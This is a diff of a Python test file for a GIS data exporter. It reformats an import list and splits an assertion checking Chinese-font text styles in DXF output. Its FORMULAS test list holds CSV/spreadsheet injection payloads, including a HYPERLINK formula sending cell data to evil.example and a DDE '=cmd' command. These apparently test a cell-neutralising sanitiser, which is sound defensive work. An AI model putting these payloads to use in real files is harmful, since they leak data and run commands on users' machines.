@@ -21,10 +21,25 @@ import shapely
 
 from gis import importers as imp
 from gis.crs import gcj02_to_wgs84
-from gis.exporters import (GCJ02_NAME, TARGETS, ExportError, ExportMeta, csv_bytes, csv_layer_bytes, dxf_bytes,
-                           export_layers, geojson_bytes, gpkg_bytes, kml_bytes, neutralise_cell,
-                           shapefile_field_names, shapefile_zip_bytes, shapefiles_zip_bytes, xlsx_bytes,
-                           xlsx_layer_bytes)
+from gis.exporters import (
+    GCJ02_NAME,
+    TARGETS,
+    ExportError,
+    ExportMeta,
+    csv_bytes,
+    csv_layer_bytes,
+    dxf_bytes,
+    export_layers,
+    geojson_bytes,
+    gpkg_bytes,
+    kml_bytes,
+    neutralise_cell,
+    shapefile_field_names,
+    shapefile_zip_bytes,
+    shapefiles_zip_bytes,
+    xlsx_bytes,
+    xlsx_layer_bytes,
+)
 
 META = ExportMeta(title="测试导出", exported="2026-11-26")
 FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
@@ -229,7 +244,8 @@ def test_dxf_declares_its_real_code_page_and_a_chinese_font(data, tmp_path):
     style = doc.styles.get("PUTUO_CJK")
     assert style.dxf.bigfont == "gbcbig.shx" and doc.header["$TEXTSTYLE"] == "PUTUO_CJK"
     texts = list(msp.query("TEXT[layer=='子园']"))
-    assert set(data.subparks["name_zh"]) <= {t.dxf.text for t in texts} and {t.dxf.style for t in texts} == {"PUTUO_CJK"}
+    assert set(data.subparks["name_zh"]) <= {t.dxf.text for t in texts}
+    assert {t.dxf.style for t in texts} == {"PUTUO_CJK"}
     polys = msp.query("LWPOLYLINE[layer=='子园']")
     assert len(polys) >= len(data.subparks) and len(msp.query("POINT[layer=='地铁站']")) == len(data.stations)
     x, y = list(polys)[0].get_points("xy")[0]
